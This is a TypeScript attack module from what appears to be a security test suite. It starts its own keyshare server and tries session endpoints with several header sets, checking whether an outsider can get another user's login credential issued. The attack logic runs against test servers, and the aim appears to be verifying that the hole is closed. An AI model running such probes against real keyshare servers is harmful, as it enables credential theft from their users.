/** A keyshare server has a session server inside. Its only requestor is the keyshare server itself. @module */
import { headersOf, login, PIN } from '../../faults/keyshare/app.ts'
import type { Attack } from '../attack.ts'
import { post, startKeyshare, userOf } from '../keyshares.ts'

const REQUEST = {
  '@context': 'https://irma.app/ld/request/issuance/v2',
  credentials: [{ credential: 'svc-keyshare.keyshare.keyshare', attributes: { username: 'another user' } }],
}
const PATHS = ['/session', '/session/', '/irma/session', '/api/v1/session', '/svc/session']

export const attack: Attack = {
  name: 'keyshare-requestor',
  gains: 'the login credential of any user',
  cites: 'spec/keyshare-server#5',
  on: 'own servers',
  async run(own) {
    const servers = await startKeyshare(own)
    const user = await userOf(servers)
    const { message: token } = await login(servers, user, PIN)
    for (const path of PATHS)
      for (const headers of [{}, { Authorization: token }, headersOf(user, token)]) {
        const sent = { 'Content-Type': 'application/json', ...headers }
        const { status, text } = await post(servers, path, REQUEST, sent)
        if (status === 200 && text.includes('"sessionPtr"')) return `POST ${path} starts a session`
      }
    return null
  },
}
